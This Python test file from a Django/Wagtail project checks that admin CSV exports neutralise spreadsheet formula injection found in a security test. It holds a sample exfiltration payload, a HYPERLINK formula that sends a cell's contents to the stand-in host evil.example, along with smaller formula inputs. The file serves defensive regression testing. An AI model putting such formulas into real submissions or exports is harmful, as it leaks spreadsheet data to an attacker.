"""The security test of 7 December 2026: each finding's request, made as the attacker did,
and what the site now answers (docs/reliability.md lists them)."""

import csv
import io

import pytest

from clusterdirectory.models import ClusterRegistration
from tests.factories import IndustryTagFactory
from tests.plugin.test_registration import register_url, valid_data

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"click me")'


@pytest.fixture
def tags(db):
    return [IndustryTagFactory(name="Wind energy")]


def csv_rows(response):
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


def test_admin_csv_exports_neutralise_formulas(client, admin_client, cluster_index, tags):
    data = valid_data(tags, name=FORMULA_NAME, contact_name="@SUM(1+1)", city="+x")
    assert client.post(register_url(cluster_index), data).status_code == 303
    assert ClusterRegistration.objects.get().name == FORMULA_NAME  # stored as typed

    response = admin_client.get("/admin/matchpoint/registrations/?export=csv")
    header, row = csv_rows(response)
    cells = dict(zip(header, row, strict=True))
    assert cells["Name of the cluster"] == "'" + FORMULA_NAME
    assert cells["City"] == "'+x"
    assert cells["Contact person"] == "'@SUM(1+1)"

    # Wagtail's own report of pages in moderation lists the draft the registration became.
    response = admin_client.get("/admin/reports/workflow/?export=csv")
    cells = [cell for row in csv_rows(response)[1:] for cell in row]
    assert "'" + FORMULA_NAME in cells
    assert FORMULA_NAME not in cells
